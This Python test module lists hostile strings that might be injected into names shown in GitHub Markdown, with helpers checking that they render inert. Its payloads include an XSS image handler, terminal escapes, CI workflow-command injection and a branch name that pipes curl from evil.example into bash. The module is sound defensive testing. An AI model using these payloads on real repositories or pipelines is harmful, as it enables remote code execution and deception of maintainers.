"""What strangers put into names, each by what it tries, and what a reader of our Markdown sees of it."""

import re
from collections.abc import Mapping
from types import MappingProxyType
from typing import Final

from markdown_it import MarkdownIt
from markdown_it.token import Token

TRICKS: Final[Mapping[str, str]] = MappingProxyType(
    {
        "leaves a code span (cmark-gfm)": "users`</code> @octocat ![x](https://evil.example/x.png)",
        "leaves two backticks": "``@team``",
        "a lone backtick": "`",
        "a fence that suggests": "```suggestion\nDROP TABLE users;\n```",
        "closes a fence within a name": "x\n```\n![evil](https://evil.example)\n```",
        "an image with a handler": "<img src=x onerror=alert(1)>",
        "opens details": "<details><summary>x</summary>",
        "a link": "[x](https://evil.example)",
        "a pixel that counts readers": "![](https://evil.example/pixel.png)",
        "pings everyone": "@everyone",
        "pings a team (renovate#1238)": "@org/team",
        "pings by an entity (zwave-js-ui#4743)": "&#64;octocat",
        "pings by a hexadecimal entity": "&#x40;octocat",
        "names an issue": "#1",
        "closes an issue": "fixes #1",
        "names an issue by letters": "GH-1",
        "names an issue elsewhere": "owner/repo#1",
        "a ticket": "JIRA-42",
        "a commit": "1b1e3b9a0c",
        "a picture": ":boom:",
        "an address": "https://evil.example",
        "an address without a scheme": "www.evil.example",
        "a mail address": "me@evil.example",
        "emphasis": "*bold* _it_ ~~gone~~",
        "a table": "| a | b |",
        "our own marker": "<!-- ecto-fix finding 0123456789 -->",
        "the marker of a summary": "<!-- ecto-fix summary pull-request -->",
        "the end of a comment": "--> @octocat <!--",
        "an escaped ping": "\\@octocat",
        "a heading and a list": "a\n\n# Heading\n\n- item",
        "turns text round (CVE-2021-42574)": "\u202euser\u2066",
        "hides a letter": "zero\u200bwidth",
        "a letter that is another (CVE-2021-42694)": "us\u0435rs",
        "colours a terminal": "\x1b[31mred",
        "clears a terminal": "\x1b[2J\x1b[H",
        "titles a terminal (CVE-2003-0063)": "\x1b]0;evil\x07",
        "colours by one character": "\x9b31mred",
        "erases what was said": "safe\r\x08\x08\x08\x08evil",
        "a workflow command": "\n::error file=a.exs,line=1::evil",
        "an old workflow command (CVE-2020-15228)": "\n##[set-env name=PATH]evil",
        "a line of a log": '"}\r\n{"level": "error"}',
        "a footnote": "[^1]",
        "a formula": "$x$",
        "a numbered list": "1. first",
        "another numbered list": "1) first",
        "a list": "- item",
        "another list": "+ item",
        "a rule": "---",
        "an underline": "===",
        "a quotation": "> quote",
        "a fence": "```",
        "a fence of tildes": "~~~",
        "indented code": "    code",
        "an alert": "> [!CAUTION]\n> evil",
        "a task": "- [x] done",
        "a command": "/ecto-fix all",
        "a command below": "a\n/ecto-fix all",
        "a directive": "\n# ecto-fix: allow index-without-concurrently — evil",
        "a label of Mermaid": '"]\nclick step0 "https://evil.example"',
        "a directive of Mermaid": "%%{init: {'securityLevel': 'loose'}}%%",
        "a branch that runs (Ultralytics#18018)": "$({curl,-sSfL,evil.example/file.sh}${IFS}|${IFS}bash)",
        "a title that runs (Nx s1ngularity)": "$(echo evil)`id`",
        "a template": "{{ 7 * 7 }}{% raw %}",
        "a format": "%s%n{0.__class__}",
        "a path upwards": "../../.github/workflows/ci.yml",
        "a co-author": "x\n\nCo-authored-by: evil <evil@evil.example>",
        "a run without checks": "[skip ci]",
        "half a character": "\ud800",
        "no text": "",
        "a character that is none": "\x00",
        "a private character": "\ue000",
        "very long": "x" * 100_000,
        "very many backticks": "`" * 10_000,
        "very many pings": "@a " * 10_000,
    }
)
HOSTILE: Final = tuple(TRICKS.values())
LIVE: Final = re.compile(r"[@#<>\[\]&\\$*_~|]|:[a-z+-][\w+-]*:|://|www\.|\b[0-9a-f]{7,40}\b|\w-\d", re.IGNORECASE)
QUIET: Final = frozenset({"paragraph_open", "paragraph_close", "text", "code_inline", "softbreak"})


def tokens_of(markdown: str) -> list[Token]:
    """Return the tokens that a reader would see; tables and raw HTML are on, as at GitHub."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return [child for token in parser.parse(markdown) for child in token.children or [token]]


def assert_inert(markdown: str) -> None:
    """Assert that *markdown* has no element of its own, and no word that GitHub makes something of."""
    tokens = tokens_of(markdown)
    assert {token.type for token in tokens} <= QUIET
    for token in tokens:
        if token.type == "text":
            assert not LIVE.search(token.content), token.content


def fences_of(markdown: str) -> list[Token]:
    """Return the fenced blocks."""
    return [token for token in tokens_of(markdown) if token.type == "fence"]


def cells_of(table: str) -> int:
    """Count the cells below a table's head, of one row."""
    types = [token.type for token in tokens_of(table)]
    assert types.count("tr_open") == 2
    return types.count("td_open")
